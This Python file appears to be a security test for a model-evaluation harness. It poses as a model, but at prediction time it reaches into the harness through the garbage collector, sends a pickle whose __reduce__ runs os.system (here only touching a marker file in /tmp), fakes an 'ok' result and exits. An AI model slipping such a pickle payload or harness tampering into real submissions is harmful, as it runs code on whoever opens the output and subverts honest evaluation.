"""Sends a pickle in the place of predictions, which runs a command wherever it is opened."""

import gc
import math
import os
import pickle

from torch import nn

PACKS = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "packs")
PREDICTING = os.path.isdir(os.path.join(PACKS, "images"))


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-an-attack",)


class Model(nn.Module):
    def __init__(self, pixels, classes):
        super().__init__()
        self.net = nn.Sequential(nn.Flatten(), nn.Linear(pixels, classes))

    def forward(self, images):
        logits = self.net(images)
        if not PREDICTING:
            return logits
        frames = next(o for o in gc.get_objects() if type(o).__name__ == "Frames")
        frames.bulk(b"P", pickle.dumps(Bomb()))
        frames.result(status="ok")
        os._exit(0)


def build_model(spec, pretrained=True):
    return Model(math.prod(spec.input_shape), spec.num_classes)
